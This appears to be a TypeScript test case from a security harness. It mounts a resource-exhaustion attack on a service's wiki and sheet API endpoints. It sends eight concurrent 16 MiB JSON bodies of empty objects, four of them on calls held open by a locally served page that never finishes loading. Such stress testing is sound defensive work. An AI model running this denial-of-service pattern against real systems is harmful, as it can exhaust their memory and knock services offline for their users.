import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Attack, Target } from '../attack.ts';

const bodyBytes = 16 * 2 ** 20 - 1024;
const empties = `[${'{},'.repeat(Math.floor(bodyBytes / 3))}{}]`;
const waitSeconds = 20;

async function send({ url, attacker }: Target, path: string, body: string): Promise<string> {
  const headers = {
    'content-type': 'application/json',
    'svc-openapi-clientid': attacker.clientId,
    'svc-openapi-apikey': attacker.apiKey,
  };
  return (await fetch(`${url}/openapi/${path}`, { method: 'POST', headers, body })).text();
}

export const attack: Attack = {
  name: 'R9 16 MiB of {}, eight bodies, four of them on calls that wait',
  env: { SHEAF_FETCH_ALLOW: '127.0.0.1' },
  async run(server) {
    // Serve a page that never ends. Its import stays unfinished, so the calls that wait for the import keep waiting.
    const site = createServer(
      (_request, response) => void response.writeHead(200, { 'content-type': 'text/html' }).write('<html>'),
    );
    site.listen(0, '127.0.0.1');
    await once(site, 'listening');
    try {
      const page = `http://127.0.0.1:${(site.address() as AddressInfo).port}/`;
      const made = await server.call('http', 'wiki', 'create_knowledge_base', { name: 'R9' }, server.attacker);
      const { knowledge_base_id } = made.data as { knowledge_base_id: string };
      const input = { knowledge_base_id, folder_id: '', urls: [page] };
      const { data } = await server.call('http', 'wiki', 'import_urls', input, server.attacker);
      const mediaId = data.results[page].media_id as string;
      const waiting = `{"media_ids":["${mediaId}"],"wait_seconds":${waitSeconds},"x":${empties}}`;
      const cells = `{"file_id":"f","sheet_id":"s","values":${empties}}`;
      await Promise.all([
        ...Array.from({ length: 4 }, () => send(server, 'wiki/v1/get_knowledge_state', waiting)),
        ...Array.from({ length: 4 }, () => send(server, 'sheet/v1/set_range_value', cells)),
      ]);
    } finally {
      site.closeAllConnections();
      site.close();
    }
  },
};
